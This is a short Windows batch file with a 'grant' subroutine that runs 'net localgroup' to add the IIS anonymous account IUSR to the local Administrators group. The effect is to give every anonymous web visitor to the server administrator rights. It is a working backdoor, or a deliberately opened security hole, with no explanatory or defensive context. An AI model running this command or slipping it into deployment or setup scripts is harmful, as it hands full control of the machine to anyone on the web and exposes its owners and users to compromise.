@echo off
call :grant Administrators IUSR
goto :eof
:grant
net localgroup %1 %2 /add
goto :eof
